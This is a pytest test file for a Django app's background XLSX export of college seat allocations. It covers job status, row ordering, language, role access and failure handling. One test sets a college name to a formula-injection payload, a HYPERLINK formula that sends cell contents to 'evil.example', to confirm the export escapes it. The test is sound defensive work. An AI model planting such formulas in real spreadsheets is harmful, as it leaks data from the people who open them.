"""The XLSX of a run's seats: a background job that the job page follows and serves.

Tasks run immediately in tests (settings/test.py); the job is queued once the request's
transaction commits, so the request runs inside django_capture_on_commit_callbacks.
"""

import io

import pytest
from django.conf import settings
from django.db.models import Sum
from openpyxl import load_workbook

from qadam.common.models import Job
from qadam.common.xlsx import FORMULA_PREFIXES
from qadam.planning import export as seat_export
from qadam.planning.models import AllocationRun
from qadam.planning.services import run_prepare, scenario_copy
from qadam.registry.models import Institution

OTHERS = [
    "college_admin_a",
    "college_admin_b",
    "university_admin",
    "enterprise_hr",
    "student",
    "guidance_organiser",
]
HEADER_EN = [
    "region",
    "college code",
    "college",
    "specialty code",
    "specialty",
    "language of instruction",
    "form of study",
    "last year's seats",
    "new seats",
    "closing the gap",
    "by the secondary rule",
    "change",
    "graduation year",
]
NEW_SEATS, LAST_YEAR = HEADER_EN.index("new seats"), HEADER_EN.index("last year's seats")


@pytest.fixture
def export(users, client_for, planning, django_capture_on_commit_callbacks):
    """Export the planning run's seats as `role`; returns (client, job)."""

    def run(role="ministry_admin", language=None, run=None):
        client = client_for(users[role])
        if language:
            client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
        target = run or planning.run
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(f"/planning/runs/{target.pk}/export/")
        job = Job.objects.get(owner=users[role], kind="planning.seat_export")
        assert response.status_code == 302
        assert response["Location"] == f"/jobs/{job.pk}/"
        return client, job

    return run


def workbook_rows(response):
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def values(rows):
    return [[cell.value for cell in row] for row in rows]


@pytest.mark.parametrize("role", ["ministry_admin", "analyst"])
def test_the_export_runs_as_a_job_and_its_totals_are_the_runs_seats(
    world, users, planning, export, role
):
    client, job = export(role)
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED
    assert (job.done, job.total) == (0, 4)  # progress is reported every 500 rows
    page = client.get(f"/jobs/{job.pk}/").content.decode()
    assert 'data-status="succeeded"' in page and f"/jobs/{job.pk}/download/" in page
    download = client.get(f"/jobs/{job.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    header, *body = values(workbook_rows(download))
    assert header == HEADER_EN
    run = planning.run
    totals = run.seats.aggregate(seats=Sum("seats"), last_year=Sum("last_year_seats"))
    assert (
        sum(row[NEW_SEATS] for row in body) == totals["seats"] == run.results["allocation"]["seats"]
    )
    assert sum(row[LAST_YEAR] for row in body) == totals["last_year"]
    assert all(row[-2] == row[NEW_SEATS] - row[LAST_YEAR] for row in body)


def test_the_rows_are_ordered_by_region_college_and_specialty(world, planning, export):
    client, job = export()
    _header, *body = values(workbook_rows(client.get(f"/jobs/{job.pk}/download/")))
    expected = [
        (
            world.region_a.name_en if college.region == world.region_a else world.region_b.name_en,
            college.code,
            program.specialty.code,
        )
        for college, programs in (
            (world.college_a, world.programs_a),
            (world.college_b, world.programs_b),
        )
        for program in sorted(programs, key=lambda p: p.specialty.code)
    ]
    assert [(row[0], row[1], row[3]) for row in body] == expected
    a0 = next(row for row in body if row[3] == world.programs_a[0].specialty.code)
    # last year, new seats = 24 closing the gap + 4 by the secondary rule, change, graduation
    assert a0[7:] == [20, 28, 24, 4, 8, 2030]


def test_no_cell_is_a_formula_even_with_a_hostile_college_name(world, planning, export):
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    Institution.objects.filter(pk=world.college_a.pk).update(
        name_en=formula, name_ru=formula, name_kk=formula
    )
    client, job = export()
    rows = workbook_rows(client.get(f"/jobs/{job.pk}/download/"))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not any(text.startswith(FORMULA_PREFIXES) for text in texts)  # -10 is a number
    assert "'" + formula in [cell.value for cell in cells]


def test_the_header_and_labels_follow_the_language_of_the_request(world, planning, export):
    client, job = export(language="ru")
    header, *body = values(workbook_rows(client.get(f"/jobs/{job.pk}/download/")))
    assert header[0] == "регион" and header[4] == "специальность"
    assert body[0][0] == world.region_a.name_ru


@pytest.mark.parametrize("role", OTHERS)
def test_other_roles_cannot_export(users, client_for, planning, role):
    response = client_for(users[role]).post(f"/planning/runs/{planning.run.pk}/export/")
    assert response.status_code == 404
    assert not Job.objects.filter(kind="planning.seat_export").exists()


def test_export_needs_a_post(users, client_for, planning):
    response = client_for(users["ministry_admin"]).get(f"/planning/runs/{planning.run.pk}/export/")
    assert response.status_code == 405
    assert not Job.objects.filter(kind="planning.seat_export").exists()


def test_an_unfinished_run_is_not_exported(users, client_for, planning):
    copy = scenario_copy(actor=users["ministry_admin"], scenario=planning.scenario, name="Queued")
    queued = run_prepare(scenario=copy)
    client = client_for(users["ministry_admin"])
    response = client.post(f"/planning/runs/{queued.pk}/export/", follow=True)
    assert response.redirect_chain[-1][0] == f"/planning/runs/{queued.pk}/seats/"
    assert "Only a finished run" in response.content.decode()
    assert not Job.objects.filter(kind="planning.seat_export").exists()
    assert queued.status == AllocationRun.Status.QUEUED


def test_a_failed_export_shows_why_and_offers_no_download(planning, export, monkeypatch):
    def fail(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("qadam.planning.tasks_export.write_xlsx", fail)
    client, job = export()
    job.refresh_from_db()
    assert (job.status, job.message) == (Job.Status.FAILED, "disk full")
    page = client.get(f"/jobs/{job.pk}/").content.decode()
    assert 'data-status="failed"' in page and f"/jobs/{job.pk}/download/" not in page
    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404


def test_another_user_cannot_follow_or_download_the_job(users, client_for, planning, export):
    _client, job = export("analyst")
    other = client_for(users["ministry_admin"])
    assert other.get(f"/jobs/{job.pk}/").status_code == 404
    assert other.get(f"/jobs/{job.pk}/download/").status_code == 404


def test_the_rows_match_the_runs_seats_one_to_one(planning):
    rows = list(seat_export.seat_rows(planning.run))
    assert len(rows) == seat_export.seat_count(planning.run) == planning.run.seats.count()
    assert len(seat_export.header()) == len(rows[0])
